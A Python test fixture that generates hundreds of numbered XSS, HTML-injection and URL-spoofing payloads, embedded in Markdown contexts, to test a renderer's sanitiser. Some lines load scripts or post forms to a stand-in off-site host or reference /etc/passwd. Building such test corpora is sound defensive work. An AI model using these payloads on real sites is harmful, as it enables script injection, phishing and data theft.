"""Our own hostile texts: what a page must neither run, nor load, nor keep alive.

A template names what it attacks with by tokens: `JS` is a call that the audit counts, `OFF` an
address of another site. Vectors are combined with the places of Markdown that an author can write
them in. None is copied from a public list: those are what the acceptance brings.
"""

from collections.abc import Iterator
from dataclasses import dataclass

OFF_SITE = "https://off-site.example"


@dataclass(frozen=True)
class Payload:
    """A hostile text. `number` is what its script would call `__pwned` with."""

    number: int
    family: str
    text: str

    @property
    def name(self) -> str:
        return f"{self.number:03}-{self.family}"


# Elements and attributes that act or load, each on one line and so fit for any place of a text.
ELEMENTS = {
    "script": [
        "<script>JS</script>",
        "<SCRIPT>JS</SCRIPT>",
        "<script\t>JS</script\t>",
        "<script type=module>JS</script>",
        "<script src=OFF/x.js></script>",
        "<script src=//off-site.example/x.js></script>",
        "<scr<script>ipt>JS</scr</script>ipt>",
        "<svg><script>JS</script></svg>",
        "<svg><script href=data:,JS></script></svg>",
        "<math><script>JS</script></math>",
    ],
    "handler": [
        "<img src=x onerror=JS>",
        "<img src=x oNeRrOr=JS>",
        "<img/src=x/onerror=JS>",
        "<img src=x\tonerror\t=\tJS>",
        "<img src='x' onerror='JS'>",
        '<img src="x" onerror="JS">',
        "<img src=x alt=`x` onerror=JS>",
        "<img src=x onerror=&#x5f;&#95;pwned(NUMBER)>",
        '<img """><img src=x onerror=JS>">',
        "<img src=x srcset='x 1x' onerror=JS>",
        "<svg onload=JS>",
        "<svg/onload=JS>",
        "<svg><animate onbegin=JS attributeName=x dur=1s>",
        "<svg><set onbegin=JS attributeName=x>",
        "<svg><image href=x onerror=JS>",
        "<body onload=JS>",
        "<body onpageshow=JS>",
        "<input autofocus onfocus=JS>",
        "<input type=image src=x onerror=JS>",
        "<select autofocus onfocus=JS>",
        "<textarea autofocus onfocus=JS></textarea>",
        "<details open ontoggle=JS><summary>x</summary>x</details>",
        "<video src=x onerror=JS></video>",
        "<video><source onerror=JS src=x></video>",
        "<audio src=x onerror=JS></audio>",
        "<marquee onstart=JS>x</marquee>",
        "<a href=# onclick=JS>x</a>",
        "<b onmouseover=JS>x</b>",
        "<p onclick=JS>x</p>",
        "<kbd tabindex=0 onfocus=JS>x</kbd>",
        "<td onclick=JS>x",
        "<q onpointerenter=JS>x</q>",
        "<style onload=JS></style>",
        "<link rel=stylesheet href=x onerror=JS>",
        "<object data=x onerror=JS></object>",
        "<iframe onload=JS></iframe>",
        "<xss onclick=JS>x</xss>",
        "<dialog open onclose=JS>x</dialog>",
        "<i style='animation-name:x' onanimationstart=JS>x</i>",
        "<u contenteditable onblur=JS>x</u>",
        "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=JS>x</b>",
    ],
    "frame": [
        "<iframe src=javascript:parent.JS></iframe>",
        "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.JS&gt;'></iframe>",
        "<iframe src='data:text/html,<script>parent.JS</script>'></iframe>",
        "<iframe src=OFF/frame></iframe>",
        "<frameset><frame src=javascript:parent.JS></frameset>",
        "<object data=javascript:parent.JS></object>",
        "<object data='data:text/html,<script>parent.JS</script>'></object>",
        "<object data=OFF/x.html type=text/html></object>",
        "<embed src=javascript:parent.JS>",
        "<embed src=OFF/x.html>",
        "<applet code=OFF/x.class></applet>",
        "<fencedframe src=OFF/x></fencedframe>",
    ],
    "load": [
        "<img src=OFF/x.png>",
        "<img src=//off-site.example/x.png>",
        "<img src='\\\\off-site.example\\x.png'>",
        "<img src='/\\off-site.example/x.png'>",
        "<img src='/\t/off-site.example/x.png'>",
        "<img src='https:/off-site.example/x.png'>",
        "<img src='https:off-site.example/x.png'>",
        "<img src='ht&#9;tps://off-site.example/x.png'>",
        "<img srcset='OFF/x.png 1x, OFF/y.png 2x'>",
        "<img src=OFF/x.png loading=eager fetchpriority=high>",
        "<picture><source srcset=OFF/x.png><img alt=x></picture>",
        "<img src=x lowsrc=OFF/x.png dynsrc=OFF/y.png>",
        "<video poster=OFF/x.png src=OFF/x.mp4 autoplay></video>",
        "<audio src=OFF/x.mp3 autoplay></audio>",
        "<video><track default src=OFF/x.vtt kind=captions></video>",
        "<input type=image src=OFF/x.png>",
        "<svg><image href=OFF/x.png></svg>",
        "<svg><image xlink:href=OFF/x.png></svg>",
        "<svg><use href=OFF/x.svg#a></svg>",
        "<svg><feImage href=OFF/x.png /></svg>",
        "<svg><foreignObject><img src=OFF/x.png></foreignObject></svg>",
        "<table background=OFF/x.png><tr><td>x</table>",
        "<body background=OFF/x.png>",
        "<bgsound src=OFF/x.wav>",
    ],
    "link-element": [
        "<link rel=stylesheet href=OFF/x.css>",
        "<link rel=preload as=image href=OFF/x.png>",
        "<link rel=prefetch href=OFF/x.html>",
        "<link rel=dns-prefetch href=OFF>",
        "<link rel=preconnect href=OFF>",
        "<link rel=modulepreload href=OFF/x.js>",
        "<link rel=icon href=OFF/x.ico>",
        "<link rel=manifest href=OFF/x.json>",
        "<link rel=import href=OFF/x.html>",
        "<link rel=canonical href=OFF>",
    ],
    "style": [
        "<style>@import 'OFF/x.css';</style>",
        "<style>body{background:url(OFF/x.png)}</style>",
        "<style>@font-face{font-family:Khlang;src:url(OFF/x.woff2)}</style>",
        "<style>*{display:none!important}</style>",
        "<b style='background:url(OFF/x.png)'>x</b>",
        "<b style='background-image:image-set(url(OFF/x.png) 1x)'>x</b>",
        "<b style='position:fixed;inset:0;z-index:9'>x</b>",
        "<b style='width:expression(JS)'>x</b>",
        "<b style='behavior:url(OFF/x.htc)'>x</b>",
        "<b style='&#64;import url(OFF/x.css)'>x</b>",
        "<li style=list-style-image:url(OFF/x.png)>x",
    ],
    "document": [
        "<meta http-equiv=refresh content='0;url=OFF/'>",
        "<meta http-equiv=refresh content='0;url=javascript:JS'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>",
        '<meta http-equiv=Content-Security-Policy content="default-src * \'unsafe-inline\'">',
        "<meta http-equiv=Set-Cookie content=a=b>",
        "<meta name=referrer content=unsafe-url>",
        "<base href=OFF/>",
        "<base target=_parent>",
        "<title>x</title><img src=x onerror=JS>",
        "</title><script>JS</script>",
        "</head><body onload=JS>",
        "</div></main></body></html><script>JS</script>",
        "<html onclick=JS>",
        "<?xml-stylesheet href=OFF/x.xsl?>",
        "<!DOCTYPE html [<!ENTITY x 'JS'>]>",
    ],
    "form": [
        "<form action=OFF/><input name=p><button>x</button></form>",
        "<form action=javascript:JS><button>x</button></form>",
        "<form><button formaction=javascript:JS>x</button></form>",
        "<form id=f></form><button form=f formaction=javascript:JS>x</button>",
        "<isindex action=javascript:JS type=image>",
        "<input type=password name=password autocomplete=current-password>",
        "<form><input type=submit formaction=OFF/></form>",
        "<keygen autofocus onfocus=JS>",
    ],
    "parser": [
        "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
        "<noembed><img title='</noembed><img src=x onerror=JS>'></noembed>",
        "<noframes><p title='</noframes><img src=x onerror=JS>'></noframes>",
        "<template><img src=x onerror=JS></template>",
        "<b><template shadowrootmode=open><img src=x onerror=JS></template></b>",
        "<textarea><p title='</textarea><img src=x onerror=JS>'></textarea>",
        "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>",
        "<style><p title='</style><img src=x onerror=JS>'></style>",
        "<title><p title='</title><img src=x onerror=JS>'></title>",
        "<plaintext><img src=x onerror=JS>",
        "<!--><img src=x onerror=JS>-->",
        "<!--!><img src=x onerror=JS>",
        "<!-- x --!><img src=x onerror=JS>",
        "<!-- --><!--<img src='--><img src=x onerror=JS>'>",
        "<!--[if true]><img src=x onerror=JS><![endif]-->",
        "<![CDATA[<img src=x onerror=JS>]]>",
        "<svg><![CDATA[><img src=x onerror=JS>]]></svg>",
        "<?x ><img src=x onerror=JS>?>",
        "<!x ><img src=x onerror=JS>",
        "</ x><img src=x onerror=JS>",
        "<a<b><img src=x onerror=JS>",
        "<b title='>'><img src=x onerror=JS>",
        "<b title=\"<img src=x onerror=JS>\">x</b>",
        "<b title='&quot;><img src=x onerror=JS>'>x</b>",
        "<img alt='</p><img src=x onerror=JS>' src=y>",
        "<a title='</a></li></ul><script>JS</script>' href=#>x</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>",
        "<math><mtext><img><mglyph><style><img title='</style><img src=x onerror=JS>'>",
        "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=JS>'>",
        "<svg></p><style><b title='</style><img src=x onerror=JS>'>",
        "<svg><desc><style><b title='</style><img src=x onerror=JS>'></desc></svg>",
        "<svg><title><style><p title='</style><img src=x onerror=JS>'></title></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
        "<table><form><math><mtext><form><mglyph><style><!--</style><img title='--><img src=x onerror=JS>'>",
        "<svg><p><style><!--</style><img title='--></p><img src=x onerror=JS>'>",
        "<math><mi xlink:href=javascript:JS href=javascript:JS>x</mi></math>",
        "<svg><a href=javascript:JS><text y=20>x</text></a></svg>",
        "<svg><a xlink:href=javascript:JS><text y=20>x</text></a></svg>",
        "<svg><animate href=#a attributeName=href values=javascript:JS /><a id=a><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>JS</script></svg>#a'/></svg>",
        "<dl><dt><table><td><svg><foreignObject><img src=x onerror=JS>",
        "<select><option><img src=x onerror=JS></select>",
        "<table><caption><img src=x onerror=JS><tr><script>JS</script></table>",
    ],
    "clobber": [
        "<b id=main>x</b>",
        "<img name=getElementById src=x>",
        "<a id=khlang href=OFF>x</a><a id=khlang name=search href=OFF>x</a>",
        "<form id=khlang><input name=search></form>",
        "<form name=body><input name=firstChild></form>",
        "<img id=location name=location src=x>",
        "<b id=__proto__ name=constructor>x</b>",
        "<h2 id=fn-1 name=fnref-1>x</h2>",
        "<p class='top foot brand menu'>x</p>",
        "<p slot=x is=x-y part=z itemid=OFF>x</p>",
    ],
    "unfinished": [
        "<img src=x onerror=JS",
        "<img src=x onerror=JS //",
        "<script>JS",
        "<script>JS//",
        "<a href='javascript:JS",
        '<a href="OFF',
        "<b title='",
        "<!-- x",
        "<style>*{",
        "<textarea>",
        "<title>",
        "<svg><style>",
        "<iframe srcdoc='<script>parent.JS</script>",
        "</div></div></div></article></main>",
        "&lt;script&gt;JS&lt;/script&gt;",
        "&amp;lt;img src=x onerror=JS&amp;gt;",
        "&#60;img src=x onerror=JS&#62;",
        "&#x3c;script&#x3e;JS&#x3c;/script&#x3e;",
        "\\<img src=x onerror=JS\\>",
        "<\x00script>JS</script>",
        "<img src=x onerror\x00=JS>",
        "<img src=x \x00onerror=JS>",
        "<script\x0c>JS</script>",
        "\ufeff<script>JS</script>",
        "＜script＞JS＜/script＞",
        "<ſcript>JS</ſcript>",
        "<\u202escript>JS</script>",
        "+ADw-script+AD4-JS+ADw-/script+AD4-",
    ],
}  # fmt: skip

# Addresses that run or deceive, for every place of a text that can hold one.
ADDRESSES = {
    "javascript": [
        "javascript:JS",
        "JaVaScRiPt:JS",
        "javascript://%0aJS",
        "javascript:/*x*/JS",
        "javascript&colon;JS",
        "javascript&#58;JS",
        "javascript&#x3A;JS",
        "&#106;avascript:JS",
        "&#x6A&#x61&#x76&#x61script:JS",
        "java&Tab;script:JS",
        "java&NewLine;script:JS",
        "java&#9;script:JS",
        "java%09script:JS",
        "java%0ascript:JS",
        "%6aavascript:JS",
        "javascript%3AJS",
        "&#1;javascript:JS",
        "&#32;javascript:JS",
        "%01javascript:JS",
        "\u200bjavascript:JS",
        "java\u200bscript:JS",
        "\u202ejavascript:JS",
        "java\u00adscript:JS",
        "javascript\uff1aJS",
        "ｊavascript:JS",
        "jаvascript:JS",
        "feed:javascript:JS",
        "view-source:javascript:JS",
        "jar:javascript:JS!/",
        "livescript:JS",
        "mocha:JS",
    ],
    "scheme": [
        "vbscript:JS",
        "data:text/html,<script>JS</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
        "DATA:text/html,x",
        "data&colon;text/html,x",
        "blob:https://off-site.example/x",
        "filesystem:https://off-site.example/x",
        "file:///etc/passwd",
        "about:blank",
        "intent://x#Intent;scheme=https;end",
        "ms-word:ofe|u|https://off-site.example/x.docx",
        "mhtml:https://off-site.example/x",
        "ws://off-site.example/",
        "x-javascript:JS",
    ],
    "deceptive": [
        "//off-site.example/x",
        "/\\off-site.example/x",
        "\\\\off-site.example\\x",
        "https:off-site.example/x",
        "https:/off-site.example/x",
        "https:///off-site.example/x",
        "https://www.cdd.go.th@off-site.example/x",
        "https://www.cdd.go.th:80@off-site.example/x",
        "https://www.cdd.go.th%2f@off-site.example/x",
        "https://www.cdd.go.th\\@off-site.example/x",
        "https://\u202eth.og.ddc@off-site.example/x",
        "https://cdd\u200b.go.th.off-site.example/x",
        "https://cdd%E2%80%8B.go.th.off-site.example/x",
        "https://cdd&#x200b;.go.th.off-site.example/x",
        "https://\u0441dd.go.th.off-site.example/x",
        "/\t/off-site.example/x",
        "%2f%2foff-site.example/x",
        "?x=javascript:JS",
        "#javascript:JS",
        "./javascript:JS",
        "x\u2028y",
        "x%00y",
    ],
}

# Places of Markdown that hold a vector of one line; `…` is where it stands.
PLACES = {
    "block": "…",
    "inline": "ก่อน … หลัง",
    "heading": "## หัวข้อ … ต่อ",
    "cell": "| ก | ข |\n| --- | --- |\n| … | x |",
    "alert": "> [!NOTE]\n> … x",
    "footnote": "ดู[^1]\n\n[^1]: … x",
    "task": "- [ ] … x",
}

# Where an address can stand.
CARRIERS = {
    "link": "[น้ำ](<…>)",
    "picture": "![น้ำ](<…>)",
    "html": '<a href="…">น้ำ</a>',
    "html-picture": '<img src="…" alt="น้ำ">',
    "reference": "[น้ำ][x]\n\n[x]: <…>",
    "autolink": "<…>",
}

# Attributes that Markdown writes, and what would break out of them.
BREAKOUTS = [
    '[x](# "\\"><img src=x onerror=JS>")',
    "[x](# '\"onmouseover=\"JS')",
    '[x](# (" onfocus=JS autofocus x="))',
    '![x" onerror="JS](x)',
    "![x](x \"'onerror='JS\")",
    '![x]("onerror="JS)',
    '![\\"><script>JS</script>](x "\\"><script>JS</script>")',
    "![<img src=x onerror=JS>](OFF/x.png)",
    '![" onmouseover="JS](OFF/x.png "\' onclick=JS ")',
    '<https://x.example/"onmouseover="JS>',
    "<https://x.example/'onmouseover='JS>",
    "<https://x.example/`onmouseover=`JS>",
    "https://x.example/\"onmouseover=JS",
    "[x]: # '\"><script>JS</script>'\n\n[x]",
    "[<script>JS</script>]: #\n\n[<script>JS</script>]",
    "[^<img src=x onerror=JS>]: x\n\n[^<img src=x onerror=JS>]",
    '[^"onclick="JS]: x\n\n[^"onclick="JS]',
    "[^main]\n\n[^main]: x",
    "```\"><script>JS</script>\nx\n```",
    "```html onload=JS\n<script>JS</script>\n```",
    "~~~ <img src=x onerror=JS>\nx\n~~~",
    "`` <img src=x onerror=JS> ``",
    "## x {#main onclick=JS}",
    "## <a id=khlang name=khlang>x</a>",
    "## khlang\n\n## location\n\n## __proto__",
    "# main\n\n# main",
    "> [!NOTE] <script>JS</script>\n> x",
    "> [!<img src=x onerror=JS>]\n> x",
    "- [<img src=x onerror=JS>] x",
    "| <img src=x onerror=JS> |\n| :-: |\n| x |",
    "|x|\n|-|\n|\"><script>JS</script>",
    "<div>\n\n[x](javascript:JS)\n\n</div>",
    "<script>\n\nJS\n\n</script>",
    "<style>\n\n@import 'OFF/x.css'\n\n</style>",
    "<pre><code>\n</code></pre><script>JS</script>",
    "<details>\n<summary onclick=JS>x</summary>\n\n<script>JS</script>\n</details>",
    "<sup class=\"footnote-ref\"><a href=\"#fn-\\\" onclick=JS x=\\\"\">1</a></sup>",
    "<section class=\"footnotes\"><ol><li><a href=\"#fnref-x\" class=\"footnote-backref\" onclick=JS>x</a></ol></section>",
    "<div class=\"markdown-alert markdown-alert-note\" onclick=JS><p class=\"markdown-alert-title\">Note</p></div>",
    "<input type=checkbox checked onclick=JS>",
    "<input type=text value=x><input type=button onclick=JS>",
    "<h2><h2 onclick=JS>x</h2></h2>",
    "<h1 title='</h1><script>JS</script>'>x</h1>",
    "<td align=\"left\" onclick=JS>x</td>",
    "<p data-sourcepos=\"1:1-1:2\" onclick=JS>x</p>",
    "<a data-sourcepos='1:1-1:9' href='javascript:JS'>x</a>",
    "$\\href{javascript:JS}{x}$",
    "{{ JS }} {% x %} ${JS} #{JS} <%= JS %>",
    "{: onclick=JS }",
    "--8<-- \"/etc/passwd\"",
    "[[javascript:JS]] :icon: ++x++ ==x== ^^x^^",
]  # fmt: skip


def _texts() -> Iterator[tuple[str, str]]:
    """Every element in two places and, one after the other, in a third; every address in three."""
    places, carriers = list(PLACES.items()), list(CARRIERS.items())
    count = 0
    for family, vectors in ELEMENTS.items():
        for vector in vectors:
            chosen = {"block", "inline", places[2 + count % (len(places) - 2)][0]}
            yield from (
                (f"{family}-{place}", PLACES[place].replace("…", vector))
                for place in sorted(chosen)
            )
            count += 1
    for family, addresses in ADDRESSES.items():
        for address in addresses:
            chosen = {"link", "html", carriers[2 + count % (len(carriers) - 2)][0]}
            for carrier in sorted(chosen):
                yield f"{family}-{carrier}", CARRIERS[carrier].replace("…", address)
            count += 1
    yield from (("breakout", text) for text in BREAKOUTS)


def _filled(number: int, family: str, text: str) -> Payload:
    text = text.replace("JS", f"__pwned({number})").replace("NUMBER", str(number))
    return Payload(number, family, text.replace("OFF", OFF_SITE))


PAYLOADS = tuple(_filled(number, *each) for number, each in enumerate(_texts(), start=1))
"""All of them, each with its number."""

SAMPLE = PAYLOADS[:: len(PAYLOADS) // 25][:25]
"""A few of every kind, for the quick tests."""
